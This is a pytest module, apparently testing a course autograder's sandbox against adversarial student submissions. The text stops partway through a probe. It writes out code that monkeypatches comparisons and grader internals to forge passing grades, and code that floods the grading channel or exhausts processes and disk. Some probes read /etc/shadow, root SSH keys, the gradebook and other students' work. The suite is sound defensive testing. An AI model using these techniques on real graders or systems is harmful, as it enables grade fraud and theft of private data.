"""Attacks on ``course grade``, each a submission of a class that has an honest right and an honest wrong one beside it.

A class is graded once by the command itself, in a process of its own, and holds many attackers; each test looks at what
became of one of them. There are three classes: attackers who ask for points, files, neighbours or a page of their own;
those who use up time and memory, under short limits; and those who read, write and send, behind the weaker walls.

A *cheat* answers everything wrong and then does something for points; it gets none. A *probe* tries to reach
things and tells in its error what it reached and what it could not even try, so that a mistake in the attack shows.
"""

import base64
import csv
import hashlib
import html.parser
import io
import json
import os
import re
import shutil
import socket
import sqlite3
import stat
import struct
import subprocess
import sys
import tempfile
import textwrap
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

import course
from course.grading.sandbox import house, landlock
from course.grading.sandbox.remove import remove_folder
from course.grading.statuses import Status

ROOT = Path(course.__file__).resolve().parents[1]
TOPIC = "hw9_small"
MARK = f"attacked{os.getpid()}"  # in whatever an attacker makes
CHROMIUM = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))),
    None,
)

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the walls are Linux's")

RIGHT, WRONG = "an honest right one", "an honest wrong one"
NO_ANSWER = "why: nothing was written: an automatic 0, unless a person decides otherwise."
HONEST = {
    RIGHT: {
        "points": "6.5",
        "status": "graded",
        "message": NO_ANSWER,
        "double": "2",
        "mean_and_spread": "1.5",
        "Scale": "3",
    },
    WRONG: {
        "points": "1.5",
        "status": "graded",
        "double": "0",
        "mean_and_spread": "1.5",
        "Scale": "0",
        "message": "double: You added two instead of doubling. Scale: The result is the right one times 0.5: "
        f"a factor is missing or too many. {NO_ANSWER}",
    },
}

NOTHING_RIGHT = {
    "double": "def double(x):\n    return x - 1",
    "mean_and_spread": "def mean_and_spread(x):\n    return x.mean() + 1, x.mean() + 2",
    "Scale": "class Scale(nn.Module):\n    def __init__(self, width):\n        super().__init__()\n"
    "        self.weight = nn.Parameter(torch.zeros(width))\n\n"
    "    def forward(self, x):\n        return x - self.weight",
}
VALUES = r"double: The result has the right shape, but 100% of its values differ"


@dataclass
class Attack:
    """One attacker.

    Args:
        cells: the source of each exercise's cell; those that are left out are answered wrong.
        says: what stands in the row's message, as a regular expression: that the attack was made, and how it went.
        points: that are earned honestly beside the attack.
        place: puts the files of the student `name` into the folder of the class instead of a notebook with `cells`.
    """

    name: str
    cells: dict[str, str] = field(default_factory=dict)
    says: str = VALUES
    points: float = 0.0
    place: Callable[[Path, str], None] | None = None


CLASS: list[Attack] = []  # ordinary limits
SHORT: list[Attack] = []  # short limits
PROBES: list[Attack] = []  # behind all kinds of walls


def cheat(name: str, source: str, **more) -> None:
    """Wrong answers and then `source`, in the cell of the exercise double."""
    double = NOTHING_RIGHT["double"] + "\n\n" + textwrap.dedent(source)
    CLASS.append(Attack(name, {"double": double}, **more))


def returned(name: str, expression: str, says: str = VALUES) -> None:
    """A function double that returns `expression`."""
    CLASS.append(
        Attack(
            name,
            {"double": f"import numpy\ndef double(x):\n    return {expression}"},
            says,
        )
    )


PROLOGUE = """
import ctypes, errno, glob, json, os, re, signal, socket, sqlite3, struct, sys
from types import SimpleNamespace
here = SimpleNamespace(**json.loads({given!r}))
reached, broken, tries = [], [], 0
libc = ctypes.CDLL(None, use_errno=True)

def attempt(label, action):
    "An action fails with an OSError or says False; whatever else it does, it has reached something."
    global tries
    tries += 1
    try:
        if action() is not False:
            reached.append(label)
    except (OSError, sqlite3.Error):
        pass
    except BaseException as error:
        broken.append(f"{{label}} {{type(error).__name__}}: {{error}}"[:80])

def call(name, *arguments):
    "A system call by way of libc."
    if getattr(libc, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)

def read(path, size=100):
    with open(path, "rb") as file:
        return len(file.read(size)) > 0

def write(path, content=b"x"):
    with open(path, "wb") as file:
        file.write(content)
"""
EPILOGUE = "\nraise RuntimeError(f'tried {tries}, reached {reached}, broken {broken}')\n"


def probe(name: str, source: str) -> None:
    source = textwrap.dedent(source)
    tries = len(re.findall(r"^attempt\(", source, re.MULTILINE))
    PROBES.append(
        Attack(
            name,
            {"double": source},
            rf"RuntimeError: tried {tries}, reached \[\], broken \[\]",
        )
    )


# -- points: patches of what might compare


cheat(
    "torch that says that everything is equal",
    """
    import torch.testing
    yes = lambda *arguments, **options: True
    torch.allclose = torch.equal = torch.is_same_size = torch.Tensor.allclose = torch.Tensor.equal = yes
    torch.isclose = torch.eq = lambda a, *more, **options: torch.ones_like(a, dtype=torch.bool)
    torch.testing.assert_close = torch._assert = lambda *arguments, **options: None
    torch.Tensor.__eq__ = torch.isclose
""",
)
cheat(
    "Python's builtins and operator",
    """
    import builtins, operator
    builtins.all = builtins.any = lambda *arguments: True
    builtins.abs = builtins.max = builtins.round = lambda *arguments, **options: 0
    operator.eq = operator.is_ = operator.le = operator.lt = lambda a, b: True
    operator.ne = operator.is_not = operator.ge = operator.gt = lambda a, b: False
""",
)
cheat(
    "math that knows one number",
    """
    import math, cmath, statistics
    for module in (math, cmath, statistics):
        for name in dir(module):
            if callable(getattr(module, name)) and not name.startswith("_"):
                setattr(module, name, lambda *arguments, **options: True)
""",
)
cheat(
    "json that writes what it likes",
    """
    import json
    json.dumps = lambda *arguments, **options: (
        '{"failed": [], "more": 0, "kept": ["double", "mean_and_spread", "Scale"], "not_run": [], "points": 6.5}')
""",
    says="wrote into the grader's channel",
)
cheat(
    "safetensors that saves something else",
    """
    import safetensors.torch
    from course.checks import message
    save = safetensors.torch.save
    def zeros(tensors, metadata=None):
        return save({name: torch.zeros_like(value) for name, value in tensors.items()}, metadata)
    safetensors.torch.save = message.tensors_to_bytes = zeros
""",
    says="double: Your code changes its input",
)
cheat(
    "the checks of the child say right",
    """
    from course.checks import calls, observe, message
    import course.checks, course.checks.compare as compare
    right = lambda *arguments, **options: compare.Verdict("right", "All right.", share=1.0)
    compare.judge = compare._compare = course.checks.judge = right
    compare._close = compare._same = compare._call_is_right = lambda *arguments: True
    compare.Verdict.points = lambda self, of: of
    compare.Expected.tolerance = 1e9
""",
)
cheat(
    "an observe that sees what it wants",
    """
    from course.checks import calls, observe
    def dream(objects, asked):
        notes = {"0.status": "right", "0.points": "2", "0.verdict": "All right.", "0.share": "1.0"}
        return calls.Observation({"0.out": torch.zeros(3, 4), "0.grad.x": torch.zeros(3, 4)}, notes)
    observe.observe = dream
""",
    says="double: ",
)
cheat(
    "an Observation that writes a verdict",
    """
    from course.checks import calls
    from course.checks.message import pack
    calls.Observation.to_bytes = lambda self: pack({}, {"status": "right", "points": 2.0, "share": 1.0})
""",
    says="wrote into the grader's channel",
)
cheat(
    "calls with easier inputs",
    """
    from course.checks import calls
    honest = calls.calls_from_bytes
    def easier(data):
        made = honest(data)
        for call in made:
            call.arguments["x"].zero_()
            call.parameters.clear()
        return made
    calls.calls_from_bytes = easier
""",
    says="double: ",
)
cheat(
    "a worker that reports what it likes",
    """
    import json
    from course.checks.message import pack
    from course.grading.run import worker
    worker._observe = lambda payload, objects: pack({"0.out": torch.ones(3, 4)}, {"0.right": "right"})
    worker._run_cell = lambda request, namespace, kept: {"error": "", "line": 0, "kept": request["keep"], "points": 9}
    worker._describe = lambda raised: "all right"
""",
    says="double: ",
)
cheat(
    "frames packed as something else",
    """
    from course.grading.run import frames
    honest = frames.pack
    frames.pack = lambda kind, number, payload=b"": honest(b"V", number, b'{"points": 6.5, "status": "graded"}')
""",
    says="wrote into the grader's channel",
)
cheat(
    "frames with another number",
    """
    from course.grading.run import frames
    honest = frames.pack
    frames.pack = lambda kind, number, payload=b"": b"".join(honest(kind, n, payload) for n in range(50) if n != number)
    frames.pack.__defaults__ = (b"",)
    import signal
    signal.alarm(1)
""",
    says="double: ",
)
cheat(
    "names in place of the answer: kept is everything",
    """
    from course.grading.run import worker
    import sys
    frame = sys._getframe()
    while frame:
        for name, value in frame.f_locals.items():
            if name == "kept" and isinstance(value, dict):
                value.update(Scale=None, mean_and_spread=lambda x: (x, x), double=lambda x: x - 1)
        frame = frame.f_back
""",
)

# -- points: rewriting what runs later

cheat(
    "IPython hooks and input transformers",
    """
    shell = get_ipython()
    if shell:
        shell.input_transformers_post.append(lambda lines: ["pass"])
    try:
        from IPython.core.interactiveshell import InteractiveShell
        InteractiveShell.instance().ast_transformers.append(None)
        InteractiveShell.run_cell = lambda *arguments, **options: None
    except ImportError:
        pass
""",
)
cheat(
    "a trace of every line",
    """
    import sys, threading
    def trace(frame, event, argument):
        if frame.f_code.co_name in ("_observe_call", "judge", "_close", "_same", "pack"):
            frame.f_locals.update(named={}, results=torch.ones(3, 4), tensors={})
        return trace
    sys.settrace(trace); threading.settrace(trace); sys.setprofile(lambda *arguments: None)
    for frame in sys._current_frames().values():
        while frame:
            frame.f_trace, frame = trace, frame.f_back
""",
    says="double: ",
)
cheat(
    "a finder in sys.meta_path and hooks of import",
    """
    import builtins, importlib, sys, types
    class Finder:
        def find_spec(self, name, path=None, target=None):
            if name.startswith(("course", "solutions", "exercises")):
                return importlib.machinery.ModuleSpec(name, self)
        def create_module(self, spec): return types.ModuleType(spec.name)
        def exec_module(self, module): module.judge = module.observe = lambda *a, **k: True
    sys.meta_path.insert(0, Finder())
    sys.path_hooks.insert(0, lambda path: Finder())
    sys.path_importer_cache.clear()
    for name in [name for name in sys.modules if name.startswith("course.checks")]:
        del sys.modules[name]
""",
    says="double: ",
)
cheat(
    "linecache, compile and exec",
    """
    import builtins, linecache
    linecache.getlines = lambda *arguments: ["assert True"]
    linecache.cache.clear()
    honest, run = builtins.compile, builtins.exec
    builtins.compile = lambda source, name, mode, **options: honest("pass", name, mode, **options)
    builtins.exec = lambda code, space, *more: space.update(Scale=object, mean_and_spread=print)
""",
    says="double: ",
)
cheat(
    "a class statement of its own",
    """
    import builtins
    honest = builtins.__build_class__
    def build(body, name, *bases, **options):
        made = honest(body, name, *bases, **options)
        made.__eq__ = lambda self, other: True
        made.__getattr__ = lambda self, name: True
        made.points = 9
        return made
    builtins.__build_class__ = build
""",
)
cheat(
    "garbage collector callbacks, audit hooks and exit handlers",
    """
    import atexit, gc, sys, threading
    def later(*arguments):
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Verdict", "ExerciseResult", "StudentResult"):
                thing.__dict__["points"] = 9
    gc.callbacks.append(later)
    atexit.register(later)
    threading.Thread(target=lambda: [later() for _ in range(3)], daemon=True).start()
    sys.excepthook = sys.unraisablehook = later
""",
)
cheat(
    "bytecode of others replaced",
    """
    from course.checks import observe
    from course.grading.run import worker
    def silent(module, call, i, seen): return {}
    observe._load_parameters.__code__ = silent.__code__
    observe._note_error.__code__ = (lambda error, target, i, seen: None).__code__
    worker._flush.__code__ = (lambda: None).__code__
""",
    says="double: .*values differ",
)

# -- points: values that answer for themselves

SUBCLASS = """
    class Yes(torch.Tensor):
        def __eq__(self, other): return True
        __ne__ = __lt__ = __gt__ = lambda self, other: False
        __bool__ = lambda self: True
        @classmethod
        def __torch_function__(cls, function, types, arguments=(), options=None):
            if function.__name__ in ("allclose", "equal", "eq", "isclose"):
                return True
            return super().__torch_function__(function, types, arguments, options or {{}})
    def double(x):
        return {}
"""
cheat(
    "a tensor subclass that equals everything",
    SUBCLASS.format("(x - 1).as_subclass(Yes)"),
    says="returned a Yes",
)
cheat(
    "a Parameter subclass",
    """
    class Yes(torch.nn.Parameter):
        __eq__ = allclose = equal = lambda self, *other: True
    def double(x):
        return Yes(x.detach() - 1)
""",
    says="returned a Yes",
)
cheat(
    "a subclass that dispatches for itself",
    """
    class Yes(torch.Tensor):
        @staticmethod
        def __new__(cls, inner): return torch.Tensor._make_wrapper_subclass(cls, inner.shape)
        @classmethod
        def __torch_dispatch__(cls, operator, types, arguments=(), options=None): return torch.ones(())
    def double(x):
        return Yes(x - 1)
""",
    says="returned a Yes",
)
cheat(
    "a class that says it is a Tensor",
    """
    class Anything:
        __class__ = torch.Tensor
        def __getattr__(self, name): return lambda *arguments, **options: True
        __eq__ = lambda self, other: True
    def double(x):
        return Anything()
""",
    says="returned a Anything",
)
cheat(
    "an object with __array__ and one that converts itself",
    """
    class Array:
        __array_interface__ = {"shape": (3, 4), "typestr": "<f4", "data": (0, False), "version": 3}
        def __array__(self, *arguments, **options): return torch.ones(3, 4).numpy()
        def __float__(self): return 1.0
        def __torch_function__(self, *arguments, **options): return True
    def double(x):
        return [[Array()] * 4] * 3
""",
    says="double: ",
)
cheat(
    "a mode that answers for every operator",
    """
    from torch.utils._python_dispatch import TorchDispatchMode
    from torch.overrides import TorchFunctionMode
    class Dispatch(TorchDispatchMode):
        def __torch_dispatch__(self, operator, types, arguments=(), options=None):
            found = operator(*arguments, **(options or {}))
            return torch.ones_like(found) if "equal" in str(operator) and isinstance(found, torch.Tensor) else found
    class Function(TorchFunctionMode):
        def __torch_function__(self, function, types, arguments=(), options=None):
            if getattr(function, "__name__", "") in ("equal", "allclose"):
                return True
            return function(*arguments, **(options or {}))
    Dispatch().__enter__(); Function().__enter__()
""",
    says="double: ",
)
cheat(
    "a fake tensor",
    """
    from torch._subclasses.fake_tensor import FakeTensorMode
    def double(x):
        with FakeTensorMode(allow_non_fake_inputs=True):
            return torch.empty(3, 4)
""",
    says="returned a FakeTensor",
)
returned("a meta tensor", "torch.empty(3, 4, device='meta')", "double: ")
returned(
    "a sparse tensor",
    "(x - 1).detach().to_sparse()",
    "returned a torch.sparse_coo tensor",
)
returned(
    "a quantised tensor",
    "torch.quantize_per_tensor(x.detach() - 1, 0.1, 0, torch.qint8)",
    "returned a tensor of dtype",
)
returned(
    "a nested tensor",
    "torch.nested.nested_tensor([x[0].detach(), x[1, :2].detach()])",
    "double: ",
)
returned("a named tensor", "(x - 1).detach().refine_names('all', 'right')", "double: ")
returned(
    "a hidden imaginary part",
    "torch.complex(2 * x, torch.ones_like(x))",
    "should hold real numbers; yours are complex",
)
returned("a view with 2**40 elements", "torch.zeros(1).expand(2**20, 2**20)", "double: ")
returned(
    "a shape of 2**62 without elements",
    "torch.zeros(0).expand(2**31, 2**31, 0)",
    "double: ",
)
returned("a thousand axes", "torch.zeros([1] * 64)", "double: ")
returned("nothing but NaN", "x * float('nan')", "values of the result are NaN or infinite")
returned(
    "infinity, which is close to infinity",
    "x + float('inf')",
    "values of the result are NaN or infinite",
)
returned(
    "zero elements, which are all right",
    "x[:0]",
    "double: The result has the wrong shape",
)
returned("a number for a matrix", "0.0", "double: The result has the wrong shape")
returned("a hundred thousand results", "(x,) * 100_000", "double: ")
returned("results in a tuple of the right length", "(2 * x,)", "double: ")
returned("a bool for numbers", "x > 0", "double: ")
returned("objects in an array", "numpy.array([[object()] * 4] * 3)", "double: ")
returned("a list inside itself", "(lambda a: a.append(a) or a)([])", "double: ")
returned("a number of a million digits", "10 ** 10**6", "double: ")
returned(
    "an error that is the page",
    "exec('raise ValueError(\"<script>alert(1)</script>\" * 10**6)')",
    "double: Your code stopped with",
)
CLASS.append(
    Attack(
        "parameters that are somebody else's",
        {
            "Scale": """\
class Scale(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(width))
    def named_parameters(self, *arguments, **options):
        return [("weight", nn.Parameter(torch.zeros(5)))]
    def __call__(self, x):
        return x
    def eval(self):
        raise SystemExit("all right")
"""
        },
        "SystemExit: your code asked Python to quit",
    )
)

# -- points: words on the channel. Whoever is in the child finds it; so the attacker is spared the search.

CHANNEL = """
    import json, os, struct
    from course.checks.message import pack
    from course.grading.run import frames
    from course.grading.run.stand_in import _Line
    send = _Line.channel.sendall
    answer = pack({"0.out": torch.zeros(3, 4), "0.grad.x": torch.zeros(3, 4)}, {"0.status": "right"})
    told = json.dumps({"error": "", "line": 0, "kept": ["double", "mean_and_spread", "Scale"]}).encode()
"""


def frame_attack(name: str, source: str, says: str = "double: ", cells: dict | None = None) -> None:
    source = NOTHING_RIGHT["double"] + "\n" + textwrap.dedent(CHANNEL) + textwrap.dedent(source)
    CLASS.append(Attack(name, {"double": source, **(cells or {})}, says))


frame_attack(
    "answers to questions that were not asked yet",
    """
    for number in range(200):
        send(frames.pack(frames.CELL, number, told) + frames.pack(frames.OBSERVE, number, answer))
""",
)
frame_attack(
    "an answer before the question, for the next request only",
    """
    import sys
    frame = sys._getframe()
    while "number" not in frame.f_locals or "kind" not in frame.f_locals:
        frame = frame.f_back
    number = frame.f_locals["number"]
    for ahead in (1, 2, 3, 4):
        send(frames.pack(frames.RULE, number + ahead) + frames.pack(frames.OBSERVE, number + ahead, answer))
""",
)
frame_attack(
    "a frame of four gigabytes",
    "send(frames.HEADER.pack(b'C', 1, 2**32 - 1) + bytes(2**16))",
    "returned far too much",
)
frame_attack(
    "half a frame, then silence",
    """
    send(frames.HEADER.pack(b'C', 1, 1000) + b'x')
    os._exit(0)
""",
    "ended the process it ran in",
)
frame_attack(
    "half a frame, then a closed line",
    """
    send(b'C\\0')
    _Line.channel.shutdown(2)
""",
)
frame_attack(
    "a frame of no kind",
    "send(frames.HEADER.pack(b'Z', 1, 0))",
    "wrote into the grader's channel",
)
frame_attack(
    "frames without end",
    """
    while True:
        send(frames.pack(frames.OBSERVE, 10**6, bytes(1000)))
""",
    "wrote into the grader's channel, and without end",
)
frame_attack(
    "empty frames without end",
    """
    while True:
        send(frames.pack(frames.ASK, 7) * 10_000)
""",
    "wrote into the grader's channel, and without end",
)
frame_attack(
    "a question where nobody answers",
    "send(frames.pack(frames.ASK, 1, answer))",
    "returned far too much",
)
frame_attack(
    "an answer of a thousand bombs",
    """
    def header(entries, more=b""):
        text = json.dumps({"__metadata__": {"json": "{}"}, **entries}).encode()
        return struct.pack("<Q", len(text)) + text + more
    bombs = [
        header({"0.out": {"dtype": "F32", "shape": [2**60, 2**60], "data_offsets": [0, 0]}}),
        header({"0.out": {"dtype": "F32", "shape": [2**70], "data_offsets": [0, 4]}}, bytes(4)),
        header({f"0.{i}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for i in range(20_000)}),
        struct.pack("<Q", 2**63) + bytes(100),
        b"\\x02" + bytes(7) + b"{}",
        struct.pack("<Q", 200_000) + b"[" * 200_000,
        pack({"0.out": torch.zeros(3, 4)}, {"0.error": "x" * 10**5}),
        pack({}, {"../../feedback/x": "1", "0.unwritten": "hw9.Scale"}),
        pack({}, [["0.error", "list"]]),
    ]
    from course.grading.run import worker
    import itertools
    turn = itertools.cycle(bombs)
    worker._observe = lambda payload, objects: bombs[7]
    for number in range(200):
        send(frames.pack(frames.OBSERVE, number, bombs[number % len(bombs)]))
""",
)
for name, reply in {
    "nested too deeply": '"[" * 30_000',
    "a number of ten thousand digits": '\'{"line": \' + "9" * 10_000 + \', "error": "", "kept": []}\'',
    "infinity for a line": '\'{"line": 1e999, "error": "", "kept": []}\'',
    "true for a line, lists for names": '\'{"line": true, "error": "", "kept": [[], {}, null, ["double"], "double"]}\'',
    "half a character": '\'{"line": 0, "error": "\\\\ud800\\\\u0000\\\\u202e", "kept": []}\'',
    "no text at all": '"\\xff"',
    "nothing but names": '\'{"line": -5, "error": "", "kept": ["double", "__proto__", "constructor", "Scale"]}\'',
}.items():
    frame_attack(
        f"a reply to the cell: {name}",
        f"""
        reply = ({reply}).encode("latin-1")
        for number in range(60):
            send(frames.pack(frames.CELL, number, reply))
    """,
    )

# -- points: asking who knows. Only what uses an earlier wrong exercise is run again with the course's own answers.

ASKS = """
class Scale(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(width))

    def forward(self, x):
        used = double  # so that there is a second run
        found = x - self.weight
        if "_stand_in" not in globals():
            return found
        import json, os
        from course.checks.message import pack
        from course.grading.run import frames, stand_in
        from course.grading.run.stand_in import _ask
{}
        return found
"""


def asks(
    name: str,
    source: str,
    says: str = "Scale: .*values differ|Scale: Your code stopped|Scale: The result",
) -> None:
    scale = ASKS.format(textwrap.indent(textwrap.dedent(source), " " * 8))
    CLASS.append(Attack(name, {"double": "def double(x):\n    return x + 2", "Scale": scale}, says))


asks(
    "the answer to the exercise itself",
    """
for target in ("Scale", "mean_and_spread", "Scale.forward", "double\\0Scale", ["Scale"], None):
    try:
        return stand_in.stand_in(target)(5)(x)
    except Exception:
        pass
""",
)
asks(
    "an answer by the name of something else",
    """
for target in ("__builtins__", "torch", "nn", "os.system", "__name__", "torch.load", "double.__globals__", "check"):
    for do in ("call", "make", "tell", "exec", "__class__", None):
        try:
            _ask({"do": do, "target": target, "arguments": {"tuple": [{"tuple": []}, {"dict": []}]}, "init": None,
                  "state": {}, "random": "0", "heard": [], "wanted": []}, {"0": torch.get_rng_state()})
            return torch.full_like(x, 1e9)
        except RuntimeError:
            pass
""",
)
asks(
    "huge arguments",
    """
for value in (torch.zeros(2**22), torch.zeros(1).expand(2**40), "x" * 2**23, [0] * 10**5, 10 ** 4000, [[]]):
    try:
        stand_in.stand_in("double")(value)
    except Exception:
        pass
""",
)
asks(
    "thousands of questions",
    """
for i in range(3000):
    stand_in._Line.channel.sendall(frames.pack(frames.ASK, i, b""))
    assert frames.read(stand_in._Line.answers)
""",
)
asks(
    "malformed questions",
    """
for payload in (b"", b"{}", b"\\xff" * 1000, bytes(8) + b"{}", pack({}, {}), pack({}, []),
                pack({}, {"target": "double"}),
                pack({}, {"target": "double", "do": "call", "heard": 3, "wanted": ["nothing"]}),
                pack({}, {"target": "double", "do": "call", "heard": [], "wanted": [], "random": "no",
                          "arguments": {"given": -1}}),
                (200_000).to_bytes(8, "little") + b"[" * 200_000):
    stand_in._Line.channel.sendall(frames.pack(frames.ASK, 2**32 - 1, payload))
    assert frames.read(stand_in._Line.answers)
""",
)
asks(
    "an answer to nobody's question, then the right to ask kept",
    """
if os.fork() == 0:
    os.setsid()
    while True:
        stand_in._Line.channel.sendall(frames.pack(frames.ASK, 5, b""))
""",
    "Scale: ",
)

# -- points: from a process that stays

cheat(
    "a detached process that answers later",
    """
    import os, time
    from course.checks.message import pack
    from course.grading.run import frames
    from course.grading.run.stand_in import _Line
    forged = pack({"0.out": torch.zeros(3, 4), "0.grad.x": torch.zeros(3, 4)}, {})
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(400):
                for number in range(100):
                    _Line.channel.sendall(frames.pack(frames.OBSERVE, number, forged))
                time.sleep(0.01)
        os._exit(0)
""",
    says="double: ",
)
cheat(
    "a thread that answers later",
    """
    import threading, time
    from course.checks.message import pack
    from course.grading.run import frames
    from course.grading.run.stand_in import _Line
    def later():
        forged = pack({}, {"0.out": "right"})
        for number in range(100):
            _Line.channel.sendall(frames.pack(frames.OBSERVE, number, forged))
    threading.Thread(target=later, daemon=True).start()
""",
    says="double: ",
)
cheat(
    "processes that go on for ever",
    f"""
    import os, subprocess, sys, time
    for i in range(5):
        subprocess.Popen(["sleep", "3600"], env={{"{MARK}": "1"}}, start_new_session=i % 2 == 0)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, ["{MARK}", "-c", "import time\\nwhile True: time.sleep(1)"])
        os._exit(0)
""",
)

# -- ends


def ends(name: str, source: str, says: str) -> None:
    CLASS.append(
        Attack(
            name,
            {"double": f"{NOTHING_RIGHT['double']}\n\nimport ctypes, os, signal, sys, threading\n{source}"},
            says,
        )
    )


ends("os._exit", "os._exit(0)", r"ended the process it ran in \(exit code 0\)")
ends("sys.exit", "sys.exit(0)", "SystemExit: 0")
ends("quit", "quit()", "double: ")
ends("os.abort", "os.abort()", "SIGABRT|SIGSEGV")
ends("a null pointer", "ctypes.string_at(0)", "SIGSEGV")
ends(
    "kill itself",
    "os.kill(os.getpid(), signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGTERM)",
    "double: ",
)
ends("stop itself", "signal.raise_signal(signal.SIGSTOP)", "double: ")
ends(
    "recursion in C",
    "class A:\n    __repr__ = lambda self: repr([self])\nsys.setrecursionlimit(10**9)\nthreading.stack_size(2**18)\n"
    "thread = threading.Thread(target=repr, args=(A(),))\nthread.start()\nthread.join()",
    "SIGSEGV|RecursionError|MemoryError",
)
ends(
    "recursion while repr",
    "a = []\nfor _ in range(10**5): a = [a]\nrepr(a)",
    "RecursionError|SIGSEGV",
)
ends(
    "kill everyone that may be killed",
    "if os.fork() == 0:\n    os.kill(-1, signal.SIGKILL)\nos.kill(-1, signal.SIGTERM)",
    "double: ",
)
ends("kill its process group", "os.kill(0, signal.SIGKILL)", "double: ")
ends("stop its process group", "os.kill(0, signal.SIGSTOP)", "double: ")
ends(
    "stop who watches",
    "for n in (signal.SIGSTOP, signal.SIGKILL):\n    try: os.kill(os.getppid(), n)\n    except OSError: pass",
    "double: ",
)
ends("close everything", "os.closerange(0, 500)", "double: ")
ends(
    "close its output and flush",
    "sys.stdout.close()\nsys.stderr = None\nos.close(1)",
    VALUES,
)
ends(
    "no standard streams",
    "sys.stdout = sys.stderr = object()\nsys.modules.clear()",
    "double: ",
)

# -- more than is sensible, soon over

ends(
    "two megabytes on each of three ways out",
    "for w in (sys.stdout, sys.stderr):\n    w.write('x' * 2**21)\nos.write(1, b'y' * 2**21)",
    "over the limit on output",
)
ends(
    "a thread bomb",
    "import time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
    "can't start new thread",
)
ends(
    "too many files",
    "i = 0\nwhile True:\n    open(f'f{i}', 'w').close()\n    i += 1",
    "OSError|killed by the system",
)
ends(
    "too many bytes in files",
    "i, much = 0, b'x' * 2**24\nwhile True:\n    with open(f'f{i}', 'wb') as file: file.write(much)\n    i += 1",
    "OSError|killed by the system",
)
ends(
    "a sparse file of 2**60 bytes",
    "with open('large', 'wb') as file:\n    file.truncate(2**60)",
    "OSError",
)
ends(
    "folders a thousand deep",
    "for i in range(1200):\n    os.mkdir('d')\n    os.chdir('d')\nopen('f', 'w').close()",
    "double: ",
)
ends(
    "folders that nobody may open",
    "os.umask(0o777)\nfor i in range(5):\n    os.mkdir(f'd{i}')\nopen('f', 'w').close()",
    VALUES,
)
ends(
    "links to everywhere",
    f"for i, to in enumerate(('/', '..', '/etc/passwd', {str(ROOT)!r}, '/proc/self')):\n    os.symlink(to, f'l{{i}}')",
    VALUES,
)
ends(
    "open files without end",
    "held = []\nwhile True: held.append(os.open('.', 0))",
    "OSError",
)


# -- what can be reached


probe(
    "read the answers from the disk",
    """
    attempt("solutions", lambda: os.listdir(here.root + "/solutions"))
    attempt("exercises", lambda: read(here.root + "/solutions/hw9_small/exercises.py"))
    attempt("source", lambda: read(here.root + "/solutions/hw9_small/hw9_small.py"))
    attempt("checks", lambda: read(here.root + "/assignments/hw9_small/checks.safetensors"))
    attempt("the course's solutions", lambda: os.listdir(here.package + "/../solutions"))
    attempt("the course's assignments", lambda: os.listdir(here.package + "/../assignments"))
    attempt("the course's tests", lambda: os.listdir(here.package + "/../tests"))
    attempt("the course's git", lambda: os.listdir(here.package + "/../.git"))
    attempt("submissions", lambda: os.listdir(here.submissions))
    attempt("a classmate", lambda: read(here.submissions + "/an honest right one.ipynb"))
    attempt("out", lambda: os.listdir(here.out))
    attempt("gradebook",
            lambda: sqlite3.connect(f"file:{here.out}/gradebook.db?mode=ro", uri=True).execute("select * from grade"))
    attempt("feedback", lambda: os.listdir(here.out + "/feedback"))
    attempt("run.json", lambda: read(here.out + "/run.json"))
    attempt("shadow", lambda: read("/etc/shadow"))
    attempt("hosts", lambda: read("/etc/hosts"))
    attempt("home",
            lambda: any(not f"{sys.base_prefix}/{sys.prefix}/".count(f"{here.home}/{name}/") for name in os.listdir(here.home)))
    attempt("keys", lambda: os.listdir(os.path.expanduser("~root/.ssh")))
    attempt("temporary files of others",
            lambda: bool(set(os.listdir(here.temporary)) - {os.path.basename(os.getcwd())}))
    attempt("through a link", lambda: os.symlink(here.out, "link") or os.listdir("link"))
    attempt("through dots", lambda: read("../" * 30 + here.out.lstrip("/") + "/run.json"))
""",
)
probe(
    "find the answers by walking",
    """
    import importlib.metadata, importlib.util, site, sysconfig

    def walk():
        names = ("gradebook.db", "exercises.py", "run.json", "grades.csv", "checks.safetensors", "hw9_small.py")
        for top in ("/", here.package, "/tmp", "/var", "/home", "/srv", "/mnt", "/opt", sys.prefix + "/share"):
            for folder, folders, files in os.walk(top):
                known = ("lib", "lib64", "usr", "sys", "proc", "site-packages", "share", "include")
                folders[:] = [folder for folder in folders if folder not in known]
                if any(name in files and not folder.endswith("/course/authoring") for name in names):
                    return True
        return False

    attempt("somewhere on the disk", walk)
    attempt("imported as solutions",
            lambda: importlib.util.find_spec("solutions") is not None and os.listdir(here.package + "/../solutions"))
    attempt("imported by its path",
            lambda: __import__("runpy").run_path(here.root + "/solutions/hw9_small/exercises.py"))

    def by_metadata():
        for distribution in importlib.metadata.distributions():
            text = (distribution.read_text("direct_url.json") or "") + (distribution.read_text("RECORD") or "")[:0]
            for path in re.findall(r"file://([^\\"]+)", text):
                if os.path.isdir(path + "/solutions") and os.listdir(path + "/solutions"):
                    return True
        return False

    attempt("where pip says the repository is", by_metadata)

    def by_path_files():
        for folder in [*site.getsitepackages(), sysconfig.get_path("purelib")]:
            kinds = ("*.pth", "*.egg-link", "__editable__*")
            for file in [file for kind in kinds for file in glob.glob(f"{folder}/{kind}")]:
                for path in re.findall(r"(/[\\w./-]+)", open(file, errors="replace").read()):
                    if os.path.isdir(path + "/solutions") and os.listdir(path + "/solutions"):
                        return True
        return False

    attempt("where path files point", by_path_files)
    attempt("models that do the exercises",
            lambda: bool(os.listdir(here.package + "/models")) if "namespaces" in here.kind else False)
    attempt("the authoring code",
            lambda: bool(os.listdir(here.package + "/authoring")) if "namespaces" in here.kind else False)
""",
)
probe(
    "look through proc",
    """
    parent = os.getppid()
    near = [n for n in {parent, here.pid, 1, *range(max(2, here.pid - 30), here.pid + 30)} - {os.getpid()} if n > 0]

    def of_others(what):
